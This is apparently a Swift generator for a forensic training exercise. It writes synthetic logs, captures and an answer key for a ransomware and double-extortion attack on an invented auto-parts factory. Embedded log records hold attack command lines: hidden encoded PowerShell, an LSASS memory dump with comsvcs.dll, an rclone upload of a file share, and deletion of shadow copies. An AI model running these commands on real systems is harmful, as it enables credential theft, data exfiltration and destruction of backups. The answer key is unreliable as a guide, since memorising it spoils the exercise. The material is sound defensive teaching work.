import Foundation
import JikochoModel

/// Ransomware with double extortion reaching a factory: a phishing document opened in the office runs PowerShell,
/// the intruder dumps credentials, spreads at night with PsExec to the file server and the line's HMI, sends the
/// file server's data out, deletes shadow copies, clears logs and encrypts; the HMI loses view and the operators stop
/// the line from the SCADA server. The evening's routine setpoint changes and the line stop are decoys for a
/// process-first reading.
///
/// Evidence: Winlogbeat exports of the office workstation, the file server and the HMI (Sysmon, Security, System),
/// the firewall's syslog, the control-network capture of the evening, the historian export (its clock 52 s
/// behind), the inventory, `scenario.yaml`. Every name, address and account is invented.
public struct RansomwareFactoryExercise {
    public static let name = "ransomware-factory-double-extortion"
    public static let defaultSeed: UInt64 = 20_220_226
    public static let historianOffset = 52.0

    var rng: SeededRandom

    public init(seed: UInt64 = defaultSeed) { rng = SeededRandom(seed: seed) }

    /// 2022-02-25 00:00 JST = 2022-02-24 15:00 UTC.
    static let day0UTC: Int64 = 1_645_714_800
    static let utcOffset = 9 * 3600

    /// True time of a local reading on 25 February (hours 24+ are the 26th).
    static func local(_ h: Int, _ m: Int, _ s: Double = 0) -> Int64 {
        SiteClock.local(day0UTC, h, m, s)
    }

    struct Site {
        static let ws = "10.60.4.31", fs = "10.60.3.20", dc = "10.60.3.5"
        static let hmi = NetHost("10.60.1.10", mac: [0x00, 0x15, 0x5d, 0x3c, 0x01, 0x10])
        static let scada = NetHost("10.60.1.12", mac: [0x00, 0x15, 0x5d, 0x3c, 0x01, 0x12])
        static let plc = NetHost("10.60.1.50", mac: [0x00, 0x1b, 0x1b, 0x3c, 0x00, 0x50])
        static let c2 = "203.0.113.66", drop = "198.51.100.140", outside = "192.0.2.30"
    }

    struct Moments {
        let phish = local(9, 12, 33.4)
        let dump = local(9, 40, 5.8)
        let lateralFS = local(23, 5, 41.2)
        let lateralHMI = local(23, 40, 12.9)
        let exfil = local(23, 21, 3.3)
        let exfilSeconds = 2_460
        let shadows = local(25, 2, 9.6)
        let cleared = local(25, 3, 1.4)
        let encryptFS = local(25, 10, 0.5)
        let encryptHMI = local(25, 14, 20.2)
        let viewLost = local(25, 15, 2.7)
        let lineStop = local(25, 32, 44.1)
        let captureStart = local(20, 0), captureEnd = local(26, 0)
        /// The evening operator's line-speed setpoint changes (parts per minute), written from the HMI.
        let speeds: [(Int64, Double)] = [(local(20, 41, 12.2), 44), (local(21, 37, 5.5), 46), (local(22, 58, 40.1), 45)]
    }
    let moments = Moments()

    struct State { var sp = 45.0, speed = 45.0, running = 1 }

    mutating func simulate() -> SecondByStates<State> {
        let m = moments
        var next = m.speeds.makeIterator()
        var pending = next.next()
        return SecondByStates(from: m.captureStart - 300_000_000_000, to: m.captureEnd + 300_000_000_000,
                              initial: State(sp: 42, speed: 42, running: 1)) { t, s in
            if let (at, v) = pending, t >= at { s.sp = v; pending = next.next() }
            if t >= m.lineStop { s.running = 0 }
            let target = s.running == 1 ? s.sp : 0
            s.speed += (target - s.speed) * 0.05 + Double(Int(rng.next() % 11) - 5) / 100
            s.speed = max(0, s.speed)
        }
    }

    public mutating func generate(into directory: String) throws -> WaterTreatmentExercise.Summary {
        try ExerciseFiles.prepare(directory, ["capture", "windows", "historian", "firewall"])
        let run = simulate()
        let state = run.at
        var summary = WaterTreatmentExercise.Summary()
        summary.files["capture/line2-control.pcap"] = try writeCapture("\(directory)/capture/line2-control.pcap", state)
        summary.files["historian/historian-5-export.csv"] = try writeHistorian("\(directory)/historian/historian-5-export.csv", state)
        summary.files["windows/ws-31.jsonl"] = try ExerciseFiles.writeLines("\(directory)/windows/ws-31.jsonl", workstation())
        summary.files["windows/fs-5.jsonl"] = try ExerciseFiles.writeLines("\(directory)/windows/fs-5.jsonl", fileServer())
        summary.files["windows/hmi-4.jsonl"] = try ExerciseFiles.writeLines("\(directory)/windows/hmi-4.jsonl", hmiEvents())
        summary.files["firewall/fw-4.log"] = try ExerciseFiles.writeLines("\(directory)/firewall/fw-4.log", firewall())
        try ExerciseFiles.finish(directory, assets: Self.assetsYAML, scenario: scenarioYAML(), &summary)
        return summary
    }

    // MARK: Windows

    mutating func workstation() -> [(Int64, String)] {
        let host = "WS-31.sakura-ap.local", m = moments
        var rec: Int64 = 710_000
        func r() -> Int64 { rec += 1; return rec }
        var out: [(Int64, String)] = []
        out.append(Winlogbeat.logon(Self.local(8, 31, 2), computer: host, record: r(), user: "a.suzuki", domain: "SAKURA", type: 2,
                                    logonID: "0x9a0b1"))
        out.append(Winlogbeat.sysmonProcess(m.phish - 4_000_000_000, computer: host, record: r(),
                                            image: "C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE",
                                            parent: "C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE",
                                            commandLine: "\"WINWORD.EXE\" /n \"C:\\Users\\a.suzuki\\AppData\\Local\\Temp\\Invoice_0225.docm\"",
                                            user: "SAKURA\\a.suzuki"))
        out.append(Winlogbeat.sysmonProcess(m.phish, computer: host, record: r(),
                                            image: "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
                                            parent: "C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE",
                                            commandLine: "powershell.exe -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQA",
                                            user: "SAKURA\\a.suzuki"))
        out.append(Winlogbeat.connection(m.phish + 3_100_000_000, computer: host, record: r(),
                                         image: "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
                                         src: Site.ws, srcPort: 52_114, dst: Site.c2, dstPort: 443, dstHost: "cdn-update.example"))
        out.append(Winlogbeat.sysmonProcess(m.dump - 1_000_000_000, computer: host, record: r(), image: "C:\\Windows\\System32\\rundll32.exe",
                                            parent: "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
                                            commandLine: "rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 644 C:\\Users\\Public\\l.dmp full",
                                            user: "SAKURA\\a.suzuki"))
        out.append(Winlogbeat.processAccess(m.dump, computer: host, record: r(), source: "C:\\Windows\\System32\\rundll32.exe",
                                            target: "C:\\Windows\\system32\\lsass.exe", access: "0x1fffff"))
        // The day's ordinary work.
        for i in 0..<8 {
            out.append(Winlogbeat.fileCreate(Self.local(10 + i, 5, Double(i)), computer: host, record: r(), image: "C:\\Program Files\\Microsoft Office\\root\\Office16\\EXCEL.EXE",
                                             path: "C:\\Users\\a.suzuki\\Documents\\orders_\(i).xlsx"))
        }
        return out
    }

    mutating func fileServer() -> [(Int64, String)] {
        let host = "FS-5.sakura-ap.local", m = moments
        var rec: Int64 = 1_220_000
        func r() -> Int64 { rec += 1; return rec }
        var out: [(Int64, String)] = []
        out.append(Winlogbeat.serviceInstall(Self.local(3, 12, 0), computer: host, record: r(), name: "BackupAgent",
                                             imagePath: "\"C:\\Program Files\\Backup\\agent.exe\" /service"))
        out.append(Winlogbeat.logon(m.lateralFS - 1_500_000_000, computer: host, record: r(), user: "adm-it", domain: "SAKURA", type: 3,
                                    logonID: "0x77c01", ip: Site.ws, port: "52240", process: "NtLmSsp", package: "NTLM"))
        out.append(Winlogbeat.serviceInstall(m.lateralFS, computer: host, record: r(), name: "PSEXESVC", imagePath: "%SystemRoot%\\PSEXESVC.exe"))
        out.append(Winlogbeat.sysmonProcess(m.exfil - 20_000_000_000, computer: host, record: r(), image: "C:\\ProgramData\\rc\\rclone.exe",
                                            parent: "C:\\Windows\\PSEXESVC.exe",
                                            commandLine: "rclone.exe copy D:\\Share mega:bk --transfers 8 --max-age 2y",
                                            user: "SAKURA\\adm-it"))
        out.append(Winlogbeat.sysmonProcess(m.shadows, computer: host, record: r(), image: "C:\\Windows\\System32\\vssadmin.exe",
                                            parent: "C:\\Windows\\PSEXESVC.exe", commandLine: "vssadmin.exe delete shadows /all /quiet",
                                            user: "SAKURA\\adm-it"))
        out.append(Winlogbeat.logCleared(m.cleared, computer: host, record: r(), user: "adm-it"))
        for i in 0..<40 {
            out.append(Winlogbeat.fileCreate(m.encryptFS + Int64(i) * 700_000_000, computer: host, record: r(),
                                             image: "C:\\Windows\\Temp\\lb3.exe",
                                             path: "D:\\Share\\Production\\Line2\\drawing_\(String(format: "%03d", i)).pdf.lockbit"))
        }
        out.append(Winlogbeat.fileCreate(m.encryptFS + 500_000_000, computer: host, record: r(), image: "C:\\Windows\\Temp\\lb3.exe",
                                         path: "D:\\Share\\Production\\Line2\\Restore-My-Files.txt"))
        return out
    }

    mutating func hmiEvents() -> [(Int64, String)] {
        let host = "HMI-4.sakura-ap.local", m = moments
        var rec: Int64 = 88_000
        func r() -> Int64 { rec += 1; return rec }
        var out: [(Int64, String)] = []
        out.append(Winlogbeat.logon(Self.local(19, 58, 30), computer: host, record: r(), user: "op-line2", domain: "SAKURA", type: 2,
                                    logonID: "0x31c0"))
        out.append(Winlogbeat.serviceInstall(m.lateralHMI, computer: host, record: r(), name: "PSEXESVC", imagePath: "%SystemRoot%\\PSEXESVC.exe"))
        for i in 0..<25 {
            out.append(Winlogbeat.fileCreate(m.encryptHMI + Int64(i) * 900_000_000, computer: host, record: r(),
                                             image: "C:\\Windows\\Temp\\lb3.exe",
                                             path: "C:\\Project\\Line2\\screens\\screen_\(i).grf.lockbit"))
        }
        out.append(Winlogbeat.serviceState(m.viewLost, computer: host, record: r(), name: "LineView Runtime", state: "stopped"))
        return out
    }

    /// Cisco ASA syslog: the foothold's call out, the night's large upload, routine browsing.
    mutating func firewall() -> [(Int64, String)] {
        let m = moments
        var fw = ASALog(host: "fw-4", utcOffset: Self.utcOffset, firstConnection: 0)
        var conn = 5_100_000
        func outbound(_ t: Int64, _ src: String, _ dst: String, _ seconds: Int, _ bytes: Int64) {
            conn += 1 + Int(rng.next() % 9)
            let port = 49_152 + Int(rng.next() % 16_000)
            fw.line(t, 6, 302_013, "Built outbound TCP connection \(conn) for outside:\(dst)/443 (\(dst)/443) to inside:\(src)/\(port) (\(Site.outside)/\(port))")
            fw.line(t + Int64(seconds) * 1_000_000_000, 6, 302_014, "Teardown TCP connection \(conn) for outside:\(dst)/443 to inside:\(src)/\(port) "
                 + "duration \(ASALog.duration(Int64(seconds) * 1_000_000_000)) bytes \(bytes) TCP FINs")
        }
        var t = Self.local(8, 0, 7)
        while t < Self.local(26, 0) {
            outbound(t, Site.ws, "13.107.42.\(10 + rng.next() % 20)", 5 + Int(rng.next() % 30), Int64(20_000 + rng.next() % 900_000))
            t += Int64(600 + rng.next() % 1800) * 1_000_000_000
        }
        outbound(m.phish + 3_000_000_000, Site.ws, Site.c2, 1_800, 2_310_442)
        outbound(m.exfil, Site.fs, Site.drop, m.exfilSeconds, 3_412_883_201)
        return fw.lines
    }

    // MARK: Capture and historian

    mutating func writeCapture(_ path: String, _ state: (Int64) -> State) throws -> Int {
        let cap = CaptureBuilder()
        let m = moments
        let hmi = TCPConversation(cap, client: Site.hmi, clientPort: 49_330, server: Site.plc, serverPort: 502,
                                  isn: (0x6610_0001, 0x0000_7C10), ttl: (128, 64))
        let scada = TCPConversation(cap, client: Site.scada, clientPort: 49_901, server: Site.plc, serverPort: 502,
                                    isn: (0x6620_0001, 0x0000_8C10), ttl: (128, 64))
        var tid: UInt16 = 0x2000
        let reg = ModbusFrames.register
        func tx(_ c: TCPConversation, _ t: Int64, _ req: [UInt8], _ resp: [UInt8]) -> Int64 {
            ModbusFrames.exchange(c, &tid, t, req, resp) { Int64(2_000_000 + Int64(rng.next() % 3_000_000)) }
        }
        var writes: [(Int64, TCPConversation, [UInt8])] = m.speeds.map { ($0.0, hmi, [6, 0, 0] + reg($0.1 * 10)) }
        writes.append((m.lineStop, scada, [5, 0, 0, 0x00, 0x00]))     // coil 00001 (line run) off, from the SCADA server
        writes.sort { $0.0 < $1.0 }
        var w = 0
        var t = m.captureStart + 200_000_000
        while t < m.captureEnd {
            while w < writes.count, writes[w].0 < t + 40_000_000 {
                t = max(t, tx(writes[w].1, writes[w].0, writes[w].2, writes[w].2) + 5_000_000)
                w += 1
            }
            let s = state(t)
            // The HMI polls until its runtime is stopped; the SCADA server polls throughout.
            var u = t
            if t < m.viewLost {
                u = tx(hmi, u, [3, 0, 0, 0, 1], [3, 2] + reg(s.sp * 10))
                u = tx(hmi, u, [4, 0, 0, 0, 1], [4, 2] + reg(s.speed * 10))
            }
            _ = tx(scada, u + 500_000, [1, 0, 0, 0, 1], [1, 1, UInt8(s.running)])
            t += 2_000_000_000 + Int64(rng.next() % 2_000_000)
        }
        return try cap.write(to: path)
    }

    func writeHistorian(_ path: String, _ state: (Int64) -> State) throws -> Int {
        try ExerciseFiles.writeHistorian(
            path, header: "# HIST-5 export, 1 s\n# TimeZone: Asia/Tokyo\nTimestamp,Line2_Speed_SP (ppm),Line2_Speed (ppm),Line2_Run\n",
            from: moments.captureStart, to: moments.captureEnd, correction: Self.historianOffset, utcOffset: Self.utcOffset
        ) { t in
            let s = state(t)
            return String(format: "%.1f,%.1f,%d", s.sp, (s.speed * 10).rounded() / 10, s.running)
        }
    }

    static let assetsYAML = """
        # Asset inventory of Sakura Auto Parts, plant 2 (an invented site).
        assets:
          - {name: fw-4, role: firewall, level: 4, zone: dmz, addresses: [192.0.2.30, 10.60.3.1], hostnames: [fw-4], evidence: ["firewall/fw-4*.log"]}
          - {name: ws-31, role: workstation, level: 4, zone: office, addresses: [10.60.4.31], hostnames: [WS-31]}
          - {name: fs-5, role: file-server, level: 4, zone: office, addresses: [10.60.3.20], hostnames: [FS-5]}
          - {name: dc-5, role: domain-controller, level: 4, zone: office, addresses: [10.60.3.5], hostnames: [DC-5]}
          - {name: historian-5, role: historian, level: 3, zone: operations, addresses: [10.60.2.40], hostnames: [HIST-5], evidence: ["historian/historian-5*.csv"]}
          - {name: scada-1, role: scada-server, level: 2, zone: control, addresses: [10.60.1.12], hostnames: [SCADA-1]}
          - {name: hmi-4, role: hmi, level: 2, zone: control, addresses: [10.60.1.10], hostnames: [HMI-4]}
          - name: plc-line2
            role: plc
            level: 1
            zone: control
            addresses: [10.60.1.50]
            description: Line 2 press and conveyor PLC
            tags:
              - {point: "holding:40001", tag: Line2_Speed_SP, setpoint: true, unit: ppm, scale: 0.1}
              - {point: "input:30001", tag: Line2_Speed, unit: ppm, scale: 0.1}
              - {point: "coil:00001", tag: Line2_Run, unit: "on/off", scale: 1}

        """

    func scenarioYAML() -> String {
        func t(_ v: Int64) -> String { Timestamp(nanoseconds: v).iso8601(precision: .seconds) }
        let m = moments
        return """
            # Exercise: ransomware with double extortion stopping a factory line (generated by `make evidence`).
            name: \(Self.name)
            title: Line 2 stopped, files encrypted, data published - how did it happen?
            seed: \(Self.defaultSeed)
            site_time_zone: Asia/Tokyo
            briefing: |
              At 01:15 on Saturday 26 February 2022 the line-2 HMI at Sakura Auto Parts went blank; at 01:32 the
              operators stopped the line from the SCADA server. On Monday the file server's shares were found
              encrypted, with a ransom note, and a leak site listed the company with samples of its drawings. You
              have the Windows logs (Winlogbeat) of an office workstation, the file server and the HMI, the firewall
              log, the control-network capture of the evening and the historian export. The historian's clock lags.
            evidence:
              - {path: windows/ws-31.jsonl, what: Sysmon and Security of WS-31 (office), clock: ws-31}
              - {path: windows/fs-5.jsonl, what: Sysmon, Security and System of FS-5 (file server), clock: fs-5}
              - {path: windows/hmi-4.jsonl, what: Sysmon, Security and System of HMI-4, clock: hmi-4}
              - {path: firewall/fw-4.log, what: firewall syslog (Cisco ASA), clock: fw-4}
              - {path: capture/line2-control.pcap, what: control network capture (20:00-02:00), clock: sensor (reference)}
              - {path: historian/historian-5-export.csv, what: historian export (1 s, local time), clock: historian-5}
              - {path: assets.yaml, what: asset inventory}
            questions:
              - id: cyber_cause
                ask: Was the line stop caused by a cyber event?
              - id: chain
                ask: Give the intrusion from the first foothold to the loss of view, with times and hosts.
              - id: clock
                ask: How far off is the historian's clock?
              - id: root_cause
                ask: State the root cause in one sentence.
              - id: techniques
                ask: Which ATT&CK techniques were used?
            answer:
              cyber_cause: true
              root_cause: >-
                A phishing document opened on WS-31 ran PowerShell; the intruder dumped credentials from LSASS, spread
                with PsExec to FS-5 and HMI-4, sent 3.4 GB from FS-5 to 198.51.100.140, deleted the shadow copies,
                cleared the logs and encrypted FS-5 and HMI-4, whose runtime stopped; the operators then stopped line 2.
              clock_offsets: {historian-5: \(Self.historianOffset)}
              chain:
                - {kind: exec.process, asset: ws-31, time: "\(t(m.phish))", tolerance_s: 5}
                - {kind: exec.process, asset: ws-31, time: "\(t(m.dump - 1_000_000_000))", tolerance_s: 5}
                - {kind: persistence.service_install, asset: fs-5, time: "\(t(m.lateralFS))", tolerance_s: 5}
                - {kind: net.flow_end, asset: fw-4, time: "\(t(m.exfil + Int64(m.exfilSeconds) * 1_000_000_000))", tolerance_s: 5}
                - {kind: exec.process, asset: fs-5, time: "\(t(m.shadows))", tolerance_s: 5}
                - {kind: defense.log_cleared, asset: fs-5, time: "\(t(m.cleared))", tolerance_s: 5}
                - {kind: file.create, asset: fs-5, time: "\(t(m.encryptFS))", tolerance_s: 5}
                - {kind: file.create, asset: hmi-4, time: "\(t(m.encryptHMI))", tolerance_s: 5}
              techniques: [T1566.001, T1059.001, T1003.001, T1569.002, T1021.002, T1048, T1490, T1070.001, T1486, T0829]
              not_the_cause:
                - {what: the line-2 operator op-line2's speed changes, why: routine changes of the line speed from the HMI console that evening}
                - {what: the line stop from SCADA-1, why: the operators' response at 01:32 to the HMI going blank}

            """
    }
}
